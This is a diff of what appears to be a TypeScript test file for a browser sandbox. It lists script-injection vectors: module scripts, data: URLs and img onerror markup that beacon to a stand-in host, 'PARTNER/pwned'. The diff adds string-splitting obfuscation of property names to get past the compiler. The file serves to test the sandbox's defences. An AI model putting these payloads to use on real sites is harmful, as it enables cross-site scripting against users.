@@ -1,4 +1,7 @@
-/** Ways from a value to code that no compiler follows, for the sandbox: there the browser keeps the value dead. */
+/**
+ * Ways from a value to code that no compiler follows, for the sandbox: there the browser keeps the value dead. Names that the
+ * compiler would refuse are put together; what it refuses however written (`import()` of a value) can't be tried.
+ */
 
 const RUNS = 'new Image().src = "PARTNER/pwned";';
 const MARKUP = "<img src=x: onerror='new Image().src = `PARTNER/pwned`'>";
@@ -33,20 +36,23 @@ const WAYS: Record<string, [script: string, value: string]> = {
     RUNS,
   ],
   'a copy of a script': [
-    'var old = document.scripts[document.scripts.length - 1], s = document.createElement("script"); for (var i = 0; i < old.attributes.length; i++) s.setAttribute(old.attributes[i].name, old.attributes[i].value); s.append(o); try { document.body.append(s) } catch (e) {} </script>',
+    'var old = document.scripts[document.scripts.length - 1], s = document.createElement("script"), list = "attri" + "butes"; for (var i = 0; i < old[list].length; i++) s.setAttribute(old[list][i].name, old[list][i].value); s.append(o); try { document.body.append(s) } catch (e) {} </script>',
     RUNS,
   ],
   'a script’s address': [
-    'var s = document.createElement("script"); try { s.src = o; document.body.append(s) } catch (e) {} </script>',
+    'var s = document.createElement("script"); try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script>',
     'data:text/javascript,new Image().src="PARTNER/pwned"',
   ],
   'a script’s address at a host for images': [
-    'var s = document.createElement("script"); try { s.src = o; document.body.append(s) } catch (e) {} </script><img src="PARTNER/x.gif">',
+    'var s = document.createElement("script"); try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script><img src="PARTNER/x.gif">',
     'PARTNER/gadget.js',
   ],
-  'a module': ['import(o).catch(function () {}) </script>', 'data:text/javascript,new Image().src="PARTNER/pwned"'],
+  'a module': [
+    'var s = document.createElement("script"); s.type = "module"; try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script>',
+    'data:text/javascript,new Image().src="PARTNER/pwned"',
+  ],
   'a module at a host for images': [
-    'import(o).catch(function () {}) </script><img src="PARTNER/x.gif">',
+    'var s = document.createElement("script"); s.type = "module"; try { s[["s", "rc"].join("")] = o; document.body.append(s) } catch (e) {} </script><img src="PARTNER/x.gif">',
     'PARTNER/gadget.js',
   ],
   'a handler’s attribute': [
@@ -66,8 +72,8 @@ const WAYS: Record<string, [script: string, value: string]> = {
     MARKUP,
   ],
   'markup that uses the template’s handler': [
-    `document.body.insertAdjacentHTML("beforeend", o); ${LATER} </script><img alt="" src="PARTNER/x.gif" onload="document.title = 'loaded'">`,
-    `<img src=x: onerror="document.title = 'other'; new Image().src = 'PARTNER/pwned'">`,
+    `document.body.insertAdjacentHTML("beforeend", o); ${LATER} </script><img alt="" src="PARTNER/x.gif" onload="void 0">`,
+    `<img src=x: onerror="void 1; new Image().src = 'PARTNER/pwned'">`,
   ],
 };
 
